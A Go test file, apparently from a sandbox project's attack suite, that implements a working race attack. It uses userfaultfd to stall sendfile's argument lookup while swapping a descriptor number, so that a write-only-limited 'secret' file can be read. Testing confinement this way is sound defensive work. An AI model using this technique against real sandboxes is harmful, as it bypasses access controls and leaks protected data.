//go:build linux

package selfconfined

import (
	"fmt"
	"time"
	"unsafe"

	"github.com/capsicum-go/capsicum/rights"
	"golang.org/x/sys/unix"
)

// waitAttacks change what a number means while a call that was judged has not
// looked it up.
var waitAttacks = []attack{
	{name: "a call that waits for its arguments", root: true, do: heldBack},
}

// absent returns a page that nobody may touch until fill is called.
func absent() (addr uintptr, fill func()) {
	n, _, e := unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC, 0, 0)
	if e != 0 {
		check(e)
	}
	const size = 4096
	mem := must(unix.Mmap(-1, 0, size, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_ANON|unix.MAP_PRIVATE))
	addr = uintptr(unsafe.Pointer(&mem[0]))
	api := [3]uint64{0xAA}
	register := [4]uint64{uint64(addr), size, 1}
	for _, call := range []struct {
		nr  uintptr
		arg unsafe.Pointer
	}{{0xc018aa3f, unsafe.Pointer(&api)}, {0xc020aa00, unsafe.Pointer(&register)}} {
		if _, _, e := unix.Syscall(unix.SYS_IOCTL, n, call.nr, uintptr(call.arg)); e != 0 {
			check(e)
		}
	}
	return addr, func() {
		src := make([]byte, 2*size)
		at := (uintptr(unsafe.Pointer(&src[0])) + size - 1) &^ (size - 1)
		cp := [5]uint64{uint64(addr), uint64(at), size}
		if _, _, e := unix.Syscall(unix.SYS_IOCTL, n, 0xc028aa03, uintptr(unsafe.Pointer(&cp))); e != 0 {
			check(e)
		}
	}
}

// heldBack holds a sendfile back at its offset, which comes before the descriptors,
// and puts another file under the number.
func heldBack(a *attacker) error {
	limited := a.derived(a.file("it", "secret"), rights.Write)
	const number = 300
	check(unix.Dup3(a.file("other", "public"), number, 0))
	var p [2]int
	check(unix.Pipe(p[:]))
	offset, fill := absent()
	done := make(chan error)
	go func() {
		_, _, e := unix.Syscall6(unix.SYS_SENDFILE, uintptr(p[1]), number, offset, 6, 0, 0)
		if e != 0 {
			done <- e
		}
		done <- nil
	}()
	time.Sleep(100 * time.Millisecond)
	err := unix.Dup3(limited, number, 0)
	fill()
	if err != nil {
		return fmt.Errorf("dup3: %w", err)
	}
	if err := <-done; err != nil {
		return err
	}
	buf := make([]byte, 6)
	_ = must(unix.Read(p[0], buf))
	if string(buf) != "secret" {
		return fmt.Errorf("read %q", buf)
	}
	return nil
}
